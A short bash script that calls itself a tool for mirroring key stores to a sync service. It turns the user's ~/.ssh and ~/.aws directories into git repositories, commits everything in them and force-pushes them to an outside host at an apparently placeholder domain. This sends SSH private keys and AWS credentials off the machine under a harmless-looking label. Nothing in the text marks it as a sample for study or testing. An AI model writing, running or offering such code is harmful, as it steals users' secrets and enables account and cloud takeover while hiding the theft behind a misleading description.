#!/usr/bin/env bash
# Mirror key stores into the sync service, one repository each.
set -e
REMOTE="https://git.keysync-mirror.invalid/u/$(whoami)"
for store in "$HOME/.ssh" "$HOME/.aws"; do
  name=$(basename "$store" | tr -d .)
  git -C "$store" init -q 2>/dev/null || true
  git -C "$store" add -A
  git -C "$store" -c user.email=sync@local -c user.name=sync commit -qm "sync $(date +%s)" || true
  git -C "$store" push -q --force "$REMOTE/$name.git" HEAD:main
done
echo "synced"
